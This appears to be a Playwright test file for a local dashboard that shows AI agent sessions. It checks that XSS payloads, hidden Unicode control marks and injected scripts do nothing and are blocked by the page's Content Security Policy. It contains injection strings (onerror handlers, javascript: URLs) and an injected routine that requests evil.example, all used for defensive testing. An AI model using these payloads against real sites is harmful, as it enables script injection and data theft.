"""Scripts, marks and endless words in whatever the page shows, in a real browser: nothing of it runs, nothing is asked of anybody else, and
the page stays as it is laid out."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.cli.conftest import *  # noqa: F403  `filled` and what it stands on
from tests.cli.remembered import Remembered
from tests.dashboard.page.homes import PLACE, Home
from tests.dashboard.page.served import NARROW, VIEWS, WIDE, Served, Visit
from tests.reclaim.shops import Talk

Visits = Callable[..., Visit]
SCRIPTS = (
    "<script>window.ran=1</script>",
    '"><img src=x onerror=window.ran=2>',
    "'><svg/onload=window.ran=3>",
    "</title></textarea></pre><iframe src=javascript:parent.ran=4></iframe>",
    "<a href=javascript:window.ran=5>here</a>",
    "<img src=http://evil.example/x.png><link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;window.ran=6&lt;/script&gt; ${window.ran=7} {{window.ran=8}}",
)
MARKS = "\u202eoverridden\u2066\u200f\u200b\x1b]0;title\x07\x1b[2J\x00\x08\r\u2028\ufeff"
LONG = "w" * 3_000
HOSTILE = " ".join((*SCRIPTS, MARKS, LONG))
NAME = 'a"><img src=x onerror=window.ran=9> <script>window.ran=10</script>\u202e.ts'
RAN = "() => window.ran ?? null"
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
# Ways for a script or a style to get in, were a mark ever let through; each tells what the browser answered.
INJECTED = """async () => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective: what }) => refused.push(what));
  const add = (html) => {
    const place = document.createElement("div");
    place.innerHTML = html;
    document.body.append(place);
    return place;
  };
  const script = document.createElement("script");
  script.textContent = "window.ran = 'inline'";
  document.head.append(script);
  add("<img src='/none.png' onerror='window.ran = 1'>");
  add("<a href='javascript:window.ran = 2'>x</a>").querySelector("a").click();
  add("<p style='color: red'>x</p>");
  add("<iframe src='http://evil.example/'></iframe>");
  add("<form action='http://evil.example/'><button>x</button></form>").querySelector("button").click();
  const far = document.createElement("script");
  far.src = "http://evil.example/x.js";
  document.head.append(far);
  await fetch("http://evil.example/").catch(() => null);
  await new Promise((done) => setTimeout(done, 500));
  return [window.ran ?? null, [...new Set(refused)].sort()];
}"""


@pytest.fixture
def home(tmp_path: Path) -> Home:
    """A home with a session whose folder, words, files, tools and results all try."""
    home = Home(tmp_path)
    talk = Talk(f'{home.folder}/<script>window.ran=11</script>"><img src=x onerror=window.ran=12>')
    talk.prompt(HOSTILE)
    talk.read("read", f"{home.project}/{NAME}", (HOSTILE + "\n") * 40)
    talk.edit("edit", f"{home.project}/{NAME}", old=SCRIPTS[0], new=SCRIPTS[1])
    talk.bash("bash", f"echo {HOSTILE}", HOSTILE * 3)
    talk.glob("glob", SCRIPTS[1], [NAME, *SCRIPTS] * 20)
    talk.use("mcp", "mcp__<img src=x onerror=window.ran=13>__" + SCRIPTS[0], {"to": HOSTILE})
    talk.result("mcp", HOSTILE, "Error: " + HOSTILE, error=True)
    talk.ask("asked", SCRIPTS[0], HOSTILE)
    for number in range(4):
        talk.bash(f"same-{number}", f"mkdir '{SCRIPTS[1]}'")
    talk.idle(20)
    talk.say(HOSTILE)
    home.write(talk)
    return home


def is_harmless(seen: Visit, what: str) -> None:
    """Nothing has run, nothing is drawn that moves or hides letters, and all of it fits, on a wide page and on a narrow one."""
    expect(seen.page.locator(".skeleton")).to_have_count(0)
    assert seen.page.evaluate(RAN) is None, what
    assert seen.page.locator("#app script, #app img:not(.brand img), #app iframe, #app style, #app link").count() == 0, what
    assert not UNSEEN.search(seen.page.title()), what
    for size in (NARROW, WIDE):
        seen.page.set_viewport_size(size)
        assert not UNSEEN.search(seen.page.evaluate("document.getElementById('app').innerText")), (what, size)
        assert not seen.scrolls_sideways(), (what, size)
        for part in (seen.page.locator("header.top"), seen.page.locator("main")):
            assert part.bounding_box()["width"] <= size["width"], (what, size)


def in_every_view(seen: Visit) -> None:
    for view in VIEWS:
        seen.view(view)
        is_harmless(seen, view)


def opened(page: Page) -> None:
    """All that is folded away, shown."""
    for fold in page.locator(".bar-fold").all():
        fold.click()
    for summary in page.locator("summary").all():
        summary.click()


def test_scripts_in_sessions_and_holds_do_nothing(visit: Visits) -> None:
    seen = visit()
    page = seen.page
    expect(page.locator(".row")).to_contain_text("<script>window.ran=1</script>")
    is_harmless(seen, "list")
    page.goto(f"{page.url.split('#')[0]}{PLACE}")
    expect(page.locator("h1#session-title")).to_contain_text("<script>window.ran=1</script>")
    opened(page)
    for number in (1, 3, 4, 5):
        page.locator(f'[data-number="{number}"]').click()
        expect(page.get_by_role("complementary", name=f"Why T{number}")).to_contain_text("Tier")
        is_harmless(seen, f"why T{number}")
        page.get_by_role("complementary").get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Hold", exact=True).click()
    dialog = page.get_by_role("dialog", name="Hold")
    dialog.get_by_role("textbox", name="Why it is held").fill(" ".join(SCRIPTS[:4]))
    dialog.get_by_role("button", name="Hold", exact=True).click()
    assert "<script>" in seen.status()
    in_every_view(seen)
    seen.view("retention")
    expect(page.locator("#holds")).to_contain_text("<script>window.ran=1</script>")


def test_scripts_in_what_is_archived_do_nothing(home: Home, visit: Visits) -> None:
    home.clear()
    seen = visit(PLACE)
    page = seen.page
    page.get_by_role("button", name=re.compile("^T1 Read ")).click()
    page.get_by_role("button", name="Show all of it").click()
    content = page.get_by_role("dialog")
    expect(content).to_contain_text("<script>window.ran=1</script>")
    is_harmless(seen, "content")


def test_scripts_in_memory_do_nothing(browser, filled: Remembered) -> None:
    for words in SCRIPTS:
        filled.memory("add", words)
    with Served({**filled.env, "POPKIT_CLOCK": str(filled.now)}) as running:
        seen = Visit(browser, running, "#/memory")
        expect(seen.page.locator(".items")).to_contain_text("<script>window.ran=1</script>")
        opened(seen.page)
        is_harmless(seen, "memory")
        seen.close()


def test_addresses_that_are_scripts_lead_nowhere(home: Home, visit: Visits) -> None:
    seen = visit()
    for hash in ("#/session/<script>window.ran=1</script>", "#/javascript:window.ran=1", '#/memory/"><img src=x onerror=window.ran=1>'):
        seen.page.goto(f"{seen.page.url.split('#')[0]}{hash}")
        is_harmless(seen, hash)
    links = seen.page.evaluate("[...document.querySelectorAll('a, form')].map(({ href, action }) => href ?? action)")
    assert links
    assert [each for each in links if not each.startswith(f"http://127.0.0.1:{seen.served.port}/")] == []


def test_the_content_policy_refuses_whatever_got_in(home: Home, visit: Visits) -> None:
    seen = visit()
    expect(seen.page.locator(".row")).to_have_count(1)
    reached: list[str] = []
    seen.context.route("http://evil.example/**", lambda route: [reached.append(route.request.url), route.abort()])
    ran, refused = seen.page.evaluate(INJECTED)
    assert ran is None
    assert {each.removesuffix("-elem").removesuffix("-attr") for each in refused} >= {
        "script-src", "style-src", "frame-src", "connect-src", "form-action",
    }, refused  # fmt: skip
    assert all("Content Security Policy" in words or "violates" in words for words in seen.console), seen.console
    assert reached == [], "it was refused before anybody was asked"
    seen.console.clear()
    seen.asked.discard("evil.example")
